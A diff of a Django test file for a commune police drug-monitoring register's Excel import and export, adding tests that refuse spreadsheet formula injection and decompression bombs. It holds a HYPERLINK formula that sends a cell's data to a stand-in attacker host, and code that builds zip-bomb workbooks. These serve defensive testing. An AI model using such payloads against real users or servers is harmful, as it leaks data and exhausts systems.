@@ -7,6 +7,7 @@ import datetime as dt
 import io
 import os
 import time
+import zipfile
 
 import pytest
 from django.core.exceptions import PermissionDenied
@@ -16,8 +17,18 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
-from subjects import excel
-from subjects.models import AccessAction, AccessLog, DrugTest, Person, PersonStatus, StatusKind
+from subjects import excel, services
+from subjects.excel.persons import PersonImport
+from subjects.models import (
+    AccessAction,
+    AccessLog,
+    DrugPoint,
+    DrugTest,
+    HouseholdCommitment,
+    Person,
+    PersonStatus,
+    StatusKind,
+)
 from tests.factories import DrugTestFactory, PersonFactory
 
 
@@ -238,16 +249,16 @@ def test_messy_file_is_refused_whole_with_every_problem_listed_and_nothing_writt
     )
     persons_before = Person.objects.count()
 
-    check = excel.check_import(kind="persons", file=upload, user=people.commune_police)
+    check = services.check_import(kind="persons", file=upload, user=people.commune_police)
 
     problems = problems_by_cell(check)
     assert not check.ok
     assert "12 chữ số" in problems[(3, "Số CCCD")]
-    assert "tương lai" in problems[(4, "Ngày sinh")]
+    assert problems[(4, "Ngày sinh")] == "Ngày không được sau ngày hôm nay."  # the form's message
     assert "Bản Không Có" in problems[(5, "Thôn, bản")]
     assert "dòng 2" in problems[(6, "Số CCCD")]
     assert "dòng 2" in problems[(6, "Họ và tên")]
-    assert "đã có trong sổ theo dõi" in problems[(7, "Họ và tên")]
+    assert problems[(7, "Họ và tên")] == "Đã có người cùng họ tên, ngày sinh ở thôn, bản này."
     assert "đã có trong sổ theo dõi" in problems[(8, "Số CCCD")]
     assert "Bản Co Muông" in problems[(9, "Thôn, bản")]
     assert problems[(10, "Họ và tên")] == "Thiếu giá trị bắt buộc."
@@ -256,7 +267,7 @@ def test_messy_file_is_refused_whole_with_every_problem_listed_and_nothing_writt
     assert "Người nghiện" in problems[(12, "Diện quản lý")]
     assert (2, "Họ và tên") not in problems and (2, "Số CCCD") not in problems
     with pytest.raises(excel.ImportRejected):
-        excel.apply_import(check=check, user=people.commune_police)
+        services.apply_import(check=check, user=people.commune_police)
     assert Person.objects.count() == persons_before
     assert not AccessLog.objects.exists()
 
@@ -267,18 +278,18 @@ def test_end_of_status_before_its_start_is_a_problem_of_that_cell(tree, people):
         PERSON_HEADERS,
         [person_row(status="Người nghiện ma túy", status_start="01/03/2024", status_end="01/01/2024")],
     )
-    check = excel.check_import(kind="persons", file=upload, user=people.commune_police)
+    check = services.check_import(kind="persons", file=upload, user=people.commune_police)
     assert problems_by_cell(check) == {(2, "Diện đến ngày"): "Ngày kết thúc không được trước ngày bắt đầu."}
 
 
 @pytest.mark.django_db
 def test_clean_file_imports_persons_with_their_status_history_and_an_access_log_entry(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
     assert check.ok, check.problems
 
-    result = excel.apply_import(check=check, user=people.commune_police)
+    result = services.apply_import(check=check, user=people.commune_police)
 
     assert (result.created, result.statuses) == (2, 1)
     sang = Person.objects.get(cccd="001090000001")
@@ -311,31 +322,31 @@ def test_clean_file_imports_persons_with_their_status_history_and_an_access_log_
 
 @pytest.mark.django_db
 def test_second_import_of_the_same_file_creates_no_duplicates(tree, people):
-    first = excel.check_import(
+    first = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
-    excel.apply_import(check=first, user=people.commune_police)
+    services.apply_import(check=first, user=people.commune_police)
 
-    again = excel.check_import(
+    again = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
 
     assert not again.ok
     assert {(p.row, p.column) for p in again.problems} == {(2, "Số CCCD"), (2, "Họ và tên"), (3, "Họ và tên")}
     with pytest.raises(excel.ImportRejected):
-        excel.apply_import(check=again, user=people.commune_police)
+        services.apply_import(check=again, user=people.commune_police)
     assert Person.objects.count() == 2
 
 
 @pytest.mark.django_db
 def test_register_changed_after_the_preview_rejects_the_whole_import(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
     PersonFactory(full_name="Người Khác", cccd="001090000001", village=tree.ho_sao)
 
     with pytest.raises(excel.ImportRejected) as rejected:
-        excel.apply_import(check=check, user=people.commune_police)
+        services.apply_import(check=check, user=people.commune_police)
 
     assert [(p.row, p.column) for p in rejected.value.problems] == [(2, "Số CCCD")]
     assert Person.objects.count() == 1
@@ -343,16 +354,16 @@ def test_register_changed_after_the_preview_rejects_the_whole_import(tree, peopl
 
 @pytest.mark.django_db
 def test_a_unique_constraint_race_is_reported_and_nothing_is_half_applied(tree, people, monkeypatch):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
     # Another user's import commits the second person after the re-check inside the transaction
     # (simulated by a re-check that sees nothing) and before the insert.
     PersonFactory(full_name="Giàng Thị Mai", birth_date=dt.date(1995, 7, 20), village=tree.ho_sao)
-    monkeypatch.setitem(excel._REGISTER_CHECKS, "persons", lambda rows, user: [])
+    monkeypatch.setattr(PersonImport, "recheck", lambda self, rows: [])
 
     with pytest.raises(excel.ImportRejected) as rejected:
-        excel.apply_import(check=check, user=people.commune_police)
+        services.apply_import(check=check, user=people.commune_police)
 
     assert "không dòng nào được nhập" in rejected.value.problems[0].message
     assert list(Person.objects.values_list("full_name", flat=True)) == ["Giàng Thị Mai"]
@@ -361,13 +372,13 @@ def test_a_unique_constraint_race_is_reported_and_nothing_is_half_applied(tree, 
 
 @pytest.mark.django_db
 def test_outsider_police_cannot_import_into_another_commune(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.other_police
     )
     assert {(p.row, p.column) for p in check.problems} == {(2, "Thôn, bản"), (3, "Thôn, bản")}
     assert "Xã Mường So" in check.problems[0].message
     with pytest.raises(excel.ImportRejected):
-        excel.apply_import(check=check, user=people.other_police)
+        services.apply_import(check=check, user=people.other_police)
     assert not Person.objects.exists()
 
 
@@ -376,26 +387,26 @@ def test_outsider_police_cannot_import_into_another_commune(tree, people):
 def test_only_the_communes_own_police_may_import_its_persons(tree, people, persona):
     user = getattr(people, persona)
     if persona == "tanan_police":
-        check = excel.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)
+        check = services.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)
         assert not check.ok
         return
     with pytest.raises(PermissionDenied):
-        excel.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)
+        services.check_import(kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=user)
 
 
 @pytest.mark.django_db
 def test_a_check_cannot_be_applied_by_another_user(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
     with pytest.raises(PermissionDenied):
-        excel.apply_import(check=check, user=people.other_police)
+        services.apply_import(check=check, user=people.other_police)
     assert not Person.objects.exists()
 
 
 @pytest.mark.django_db
 def test_a_check_is_not_applied_once_the_user_no_longer_holds_the_village(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
     )
     moved = type(people.commune_police).objects.get(pk=people.commune_police.pk)
@@ -403,7 +414,7 @@ def test_a_check_is_not_applied_once_the_user_no_longer_holds_the_village(tree, 
     moved.save()
 
     with pytest.raises(excel.ImportRejected) as rejected:
-        excel.apply_import(check=check, user=moved)
+        services.apply_import(check=check, user=moved)
 
     assert {(p.row, p.column) for p in rejected.value.problems} == {(2, "Thôn, bản"), (3, "Thôn, bản")}
     assert not Person.objects.exists()
@@ -417,17 +428,17 @@ def test_dates_of_a_1904_workbook_and_of_streamed_workbooks_are_read_right(tree,
         xlsx(PERSON_HEADERS, CLEAN_PERSONS, epoch=CALENDAR_MAC_1904),
         xlsx(PERSON_HEADERS, CLEAN_PERSONS, streamed=True),
     ):
-        check = excel.check_import(kind="persons", file=upload, user=people.commune_police)
+        check = services.check_import(kind="persons", file=upload, user=people.commune_police)
         assert check.ok, check.problems
-        assert [row["birth_date"] for row in check.rows] == [dt.date(1990, 3, 4), dt.date(1995, 7, 20)]
-        assert check.rows[1]["resident_since"] == dt.date(2020, 5, 1)
+        assert [row.values["birth_date"] for row in check.rows] == [dt.date(1990, 3, 4), dt.date(1995, 7, 20)]
+        assert check.rows[1].values["resident_since"] == dt.date(2020, 5, 1)
 
 
 @pytest.mark.django_db
 def test_a_date_serial_without_its_format_is_a_date_but_a_bare_year_is_not(tree, people):
     upload = xlsx(PERSON_HEADERS, [person_row(birth=32936), person_row("Lò Văn Hai", cccd="", birth=1990)])
-    check = excel.check_import(kind="persons", file=upload, user=people.commune_police)
-    assert check.rows[0]["birth_date"] == dt.date(1990, 3, 4)
+    check = services.check_import(kind="persons", file=upload, user=people.commune_police)
+    assert check.rows[0].values["birth_date"] == dt.date(1990, 3, 4)
     assert problems_by_cell(check) == {
         (3, "Ngày sinh"): "“1990” không phải là ngày (ghi theo dạng dd/mm/yyyy)."
     }
@@ -435,7 +446,7 @@ def test_a_date_serial_without_its_format_is_a_date_but_a_bare_year_is_not(tree,
 
 @pytest.mark.django_db
 def test_cccd_typed_as_a_number_explains_the_lost_leading_zero(tree, people):
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, [person_row(cccd=1090000001)]), user=people.commune_police
     )
     assert "số 0 ở đầu" in problems_by_cell(check)[(2, "Số CCCD")]
@@ -453,7 +464,7 @@ def test_cccd_typed_as_a_number_explains_the_lost_leading_zero(tree, people):
 )
 def test_a_file_that_is_not_an_import_is_refused_with_a_clear_message(tree, people, content, message):
     with pytest.raises(excel.ImportFileError, match=message):
-        excel.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
 
 
 @pytest.mark.django_db
@@ -483,13 +494,13 @@ def test_export_round_trip_re_imports_the_same_persons(tree, people):
         )
     )
 
-    duplicate = excel.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
+    duplicate = services.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
     assert {(p.row, p.column) for p in duplicate.problems} == {(2, "Số CCCD"), (2, "Họ và tên")}
 
     Person.objects.all().delete()
-    check = excel.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
+    check = services.check_import(kind="persons", file=io.BytesIO(exported), user=people.commune_police)
     assert check.ok, check.problems
-    excel.apply_import(check=check, user=people.commune_police)
+    services.apply_import(check=check, user=people.commune_police)
     after = list(
         Person.objects.values(
             "full_name",
@@ -529,9 +540,9 @@ def test_tests_are_matched_by_cccd_or_by_name_birth_date_and_village(tree, peopl
         ],
     )
 
-    check = excel.check_import(kind="tests", file=upload, user=people.commune_police)
+    check = services.check_import(kind="tests", file=upload, user=people.commune_police)
     assert check.ok, check.problems
-    result = excel.apply_import(check=check, user=people.commune_police)
+    result = services.apply_import(check=check, user=people.commune_police)
 
     assert result.created == 2
     assert list(by_cccd.tests.values_list("tested_on", "result")) == [(dt.date(2024, 5, 10), "negative")]
@@ -559,7 +570,7 @@ def test_tests_of_unknown_or_outside_persons_and_repeated_tests_are_refused(tree
             ["Lò Văn Khác", "", "001090000001", "", "04/05/2024", "Âm tính", ""],  # 8: name does not match
         ],
     )
-    check = excel.check_import(kind="tests", file=upload, user=people.commune_police)
+    check = services.check_import(kind="tests", file=upload, user=people.commune_police)
     problems = problems_by_cell(check)
     assert "đã có kết quả xét nghiệm" in problems[(2, "Ngày xét nghiệm")]
     assert "Không tìm thấy" in problems[(3, "Số CCCD")]
@@ -570,7 +581,7 @@ def test_tests_of_unknown_or_outside_persons_and_repeated_tests_are_refused(tree
     assert "không khớp" in problems[(8, "Họ và tên")]
     assert not [p for p in check.problems if p.row == 5]
     with pytest.raises(excel.ImportRejected):
-        excel.apply_import(check=check, user=people.commune_police)
+        services.apply_import(check=check, user=people.commune_police)
     assert DrugTest.objects.count() == 1
 
 
@@ -617,7 +628,7 @@ def test_a_filled_in_template_imports(tree, people):
     buffer = io.BytesIO()
     workbook.save(buffer)
     buffer.seek(0)
-    check = excel.check_import(kind="persons", file=buffer, user=people.commune_police)
+    check = services.check_import(kind="persons", file=buffer, user=people.commune_police)
     assert check.ok, check.problems
     assert check.row_count == 1
 
@@ -638,13 +649,13 @@ def test_ten_thousand_rows_import_in_one_go(tree, people):
         )
         for n in range(10_000)
     ]
-    check = excel.check_import(
+    check = services.check_import(
         kind="persons", file=xlsx(PERSON_HEADERS, rows, streamed=True), user=people.commune_police
     )
     assert check.ok, check.problems[:5]
 
     with CaptureQueriesContext(connection) as captured:
-        result = excel.apply_import(check=check, user=people.commune_police)
+        result = services.apply_import(check=check, user=people.commune_police)
 
     assert (result.created, result.statuses) == (10_000, 1_000)
     assert Person.objects.count() == 10_000
@@ -711,8 +722,12 @@ def test_clean_upload_is_previewed_then_imported_on_confirm_and_the_file_deleted
     assert not list(uploads.iterdir())
     done = client.get(confirmed.url)
     assert "Đã thêm <strong>2</strong> đối tượng" in done.content.decode()
-    log = AccessLog.objects.get()
-    assert log.action == AccessAction.IMPORT and log.ip_address == "127.0.0.1"
+    log = AccessLog.objects.get(action=AccessAction.IMPORT)
+    assert log.ip_address == "127.0.0.1"
+    # The file's CCCD numbers were looked up at the preview and again when written, each logged
+    # without the numbers.
+    lookups = AccessLog.objects.filter(object_type="cccd_lookup")
+    assert lookups.count() == 2 and not any("001090000001" in (row.description or "") for row in lookups)
 
 
 @pytest.mark.django_db
@@ -840,3 +855,245 @@ def test_only_commune_police_may_open_the_import_pages(tree, people, login, uplo
 def test_anonymous_visitors_are_sent_to_sign_in(client):
     response = client.get(reverse("subjects:import_start"))
     assert response.status_code == 302 and reverse("login") in response.url
+
+
+# ---------------------------------------------------------------- formula injection (issue 12 #4)
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
+def test_exported_text_that_could_start_a_formula_stays_text(tree, text):
+    PersonFactory(full_name="Lò Văn Sáng", address=text, village=tree.ta_leng)
+    data = excel.export_xlsx(model=Person, queryset=Person.objects.all(), fields=["full_name", "address"])
+    cell = load_workbook(io.BytesIO(data)).worksheets[0].cell(row=2, column=2)
+    assert cell.data_type == "s"
+    assert cell.value == text
+    assert cell.quotePrefix
+
+
+def test_report_sheets_write_user_text_as_text_too():
+    from reports.output import _sheet
+
+    workbook = Workbook()
+    _sheet(workbook, "Bảng", ["Đơn vị", "Số"], [[FORMULA, 3]], [20, 8])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Bảng"]
+    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", FORMULA)
+    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"
+
+
+# ---------------------------------------------------------------- import bombs (issue 12 #8)
+
+
+def _bomb(member: str, size: int) -> bytes:
+    """A real workbook with one member replaced by `size` bytes of one repeated character."""
+    source = zipfile.ZipFile(xlsx(PERSON_HEADERS, CLEAN_PERSONS))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
+        for info in source.infolist():
+            if info.filename != member:
+                out.writestr(info, source.read(info.filename))
+        with out.open(member, "w") as target:
+            chunk = b"A" * (1024 * 1024)
+            for _ in range(size // len(chunk)):
+                target.write(chunk)
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+def test_a_small_file_that_expands_enormously_is_refused_before_parsing(tree, people):
+    content = _bomb("xl/worksheets/sheet1.xml", 200 * 1024 * 1024)
+    assert len(content) < 1024 * 1024
+    started = time.perf_counter()
+    with pytest.raises(excel.ImportFileError, match="giải nén ra quá lớn"):
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
+    assert time.perf_counter() - started < 5  # not parsed: a bound, not a timing measurement
+
+
+@pytest.mark.django_db
+def test_a_member_compressed_far_beyond_what_a_register_does_is_refused(tree, people):
+    content = _bomb("xl/sharedStrings.xml", 20 * 1024 * 1024)
+    with pytest.raises(excel.ImportFileError, match="nén bất thường"):
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
+
+
+@pytest.mark.django_db
+def test_a_cell_longer_than_any_register_field_is_refused_with_its_place(tree, people):
+    upload = xlsx(PERSON_HEADERS, [person_row(), person_row("x" * 20_000, cccd="")])
+    with pytest.raises(excel.ImportFileError, match="Dòng 3, cột “Họ và tên”"):
+        services.check_import(kind="persons", file=upload, user=people.commune_police)
+
+
+@pytest.mark.django_db
+def test_only_the_first_columns_are_read_and_too_many_rows_are_refused(tree, people, monkeypatch):
+    from subjects.excel import reading
+
+    wide = PERSON_HEADERS + [f"Cột {n}" for n in range(100)]
+    check = services.check_import(
+        kind="persons",
+        file=xlsx(wide, [row + ["x"] * 100 for row in CLEAN_PERSONS]),
+        user=people.commune_police,
+    )
+    assert check.ok, check.problems
+    monkeypatch.setattr(reading, "MAX_ROWS", 1)
+    with pytest.raises(excel.ImportFileError, match="quá nhiều dòng"):
+        services.check_import(
+            kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
+        )
+
+
+# ---------------------------------------------------------------- row numbers (issue 12 #14)
+
+
+@pytest.mark.django_db
+def test_row_numbers_are_shown_without_a_thousands_separator(tree, people, login, uploads):
+    rows = [person_row(f"Người Thử {n}", cccd=f"0030{n:08d}") for n in range(5003)]
+    rows.append(person_row("Lò Văn Cuối", cccd="123"))  # row 5005
+    response = upload_file(login(people.commune_police), xlsx(PERSON_HEADERS, rows, streamed=True).getvalue())
+    html = response.content.decode()
+    assert '<td class="text-end">5005</td>' in html
+    assert "5.005" not in html
+
+
+# ---------------------------------------------------------------- the other registers
+
+
+@pytest.mark.django_db
+def test_treatments_files_commitments_and_points_import_with_their_templates(tree, people):
+    person = PersonFactory(full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng)
+    cases = {
+        "treatments": (
+            [
+                [
+                    "",
+                    "",
+                    "001090000001",
+                    "",
+                    "Điều trị thay thế (Methadone / Buprenorphine)",
+                    "Methadone",
+                    "01/02/2023",
+                    "",
+                    "Cơ sở Methadone",
+                    "Có",
+                    "Không",
+                ],
+            ],
+            lambda: list(
+                person.treatments.values_list("kind", "medication", "complies_with_rules", "uses_other_drugs")
+            ),
+            [("substitution", "methadone", True, False)],
+        ),
+        "files": (
+            [["", "", "001090000001", "", "Người nghiện ma túy", "05/01/2024", "Công an xã", ""]],
+            lambda: list(person.files.values_list("kind", "opened_on", "responsible")),
+            [("addict", dt.date(2024, 1, 5), "Công an xã")],
+        ),
+        "commitments": (
+            [["Bản Tả Lèng", "", "01/04/2024", 80, 78]],
+            lambda: list(HouseholdCommitment.objects.values_list("village", "kind", "households", "signed")),
+            [(tree.ta_leng.pk, "drug_free", 80, 78)],
+        ),
+        "points": (
+            [["Hô Sáo", "Điểm bán lẻ", "Lều rẫy cuối bản", "02/03/2024", ""]],
+            lambda: list(DrugPoint.objects.values_list("village", "kind", "description", "eliminated_on")),
+            [(tree.ho_sao.pk, "retail", "Lều rẫy cuối bản", None)],
+        ),
+    }
+    for kind, (rows, stored, expected) in cases.items():
+        workbook = load_workbook(io.BytesIO(excel.build_template(kind, user=people.commune_police)))
+        headers = [c.value for c in workbook["Dữ liệu"][1]]
+        sheet = workbook["Dữ liệu"]
+        for offset, row in enumerate(rows, start=2):
+            for column, value in enumerate(row, start=1):
+                sheet.cell(row=offset, column=column, value=value)
+        buffer = io.BytesIO()
+        workbook.save(buffer)
+        buffer.seek(0)
+        check = services.check_import(kind=kind, file=buffer, user=people.commune_police)
+        assert check.ok, (kind, headers, check.problems)
+        result = services.apply_import(check=check, user=people.commune_police)
+        assert result.created == len(rows)
+        assert stored() == expected, kind
+        # The same file again: the register's own unique rules or periods refuse nothing silently.
+        buffer.seek(0)
+        again = services.check_import(kind=kind, file=buffer, user=people.commune_police)
+        if kind in ("commitments", "points"):
+            assert not again.ok and "đã có" in again.problems[0].message.lower()
+
+
+@pytest.mark.django_db
+def test_rows_of_the_other_registers_are_refused_for_the_models_reasons(tree, people):
+    PersonFactory(
+        full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng, birth_date=dt.date(1990, 1, 1)
+    )
+    files = services.check_import(
+        kind="files",
+        file=xlsx(
+            [
+                "Số CCCD",
+                "Loại hồ sơ",
+                "Ngày lập",
+                "Người, tổ chức được giao quản lý",
+                "Ngày kết thúc quản lý",
+            ],
+            [["001090000001", "Người nghiện ma túy", "05/01/2024", "Công an xã", "01/01/2024"]],
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(files) == {
+        (2, "Ngày kết thúc quản lý"): "Ngày kết thúc quản lý không được trước ngày lập hồ sơ."
+    }
+    commitments = services.check_import(
+        kind="commitments",
+        file=xlsx(
+            ["Thôn, bản", "Tính đến ngày", "Tổng số hộ", "Số hộ đã ký"], [["Tả Lèng", "01/04/2024", 80, 81]]
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(commitments) == {(2, "Số hộ đã ký"): "Số hộ đã ký không được lớn hơn tổng số hộ."}
+    treatments = services.check_import(
+        kind="treatments",
+        file=xlsx(
+            ["Số CCCD", "Hình thức", "Ngày bắt đầu"],
+            [["001090000001", "Cai nghiện bắt buộc tại cơ sở", "01/01/1980"]],
+        ),
+        user=people.commune_police,
+    )
+    assert problems_by_cell(treatments) == {(2, "Ngày bắt đầu"): "Ngày bắt đầu không được trước ngày sinh."}
+
+
+def _with_sheet(xml: bytes) -> bytes:
+    """A real persons workbook whose first sheet is replaced by `xml`."""
+    source = zipfile.ZipFile(xlsx(PERSON_HEADERS, CLEAN_PERSONS))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in source.infolist():
+            out.writestr(
+                info, xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info.filename)
+            )
+    return buffer.getvalue()
+
+
+_SHEET = (
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    b'<row r="1"><c r="A1" t="inlineStr"><is><t>H\xe1\xbb\x8d v\xc3\xa0 t\xc3\xaan</t></is></c>'
+    b'<c r="B1" t="inlineStr"><is><t>Ng\xc3\xa0y sinh</t></is></c></row>%s</sheetData></worksheet>'
+)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "rows",
+    [
+        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',  # one far cell: 17 billion laid out
+        b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row>",  # cells without references, past XFD
+        b"".join(b'<row r="%d"><c r="AX%d"><v>1</v></c></row>' % (n, n) for n in range(2, 200_002, 97)),
+    ],
+)
+def test_a_sheet_reaching_far_beyond_a_register_is_refused_before_it_is_read(tree, people, rows):
+    content = _with_sheet(_SHEET % rows)
+    with pytest.raises(excel.ImportFileError, match="quá rộng cho một sổ theo dõi"):
+        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
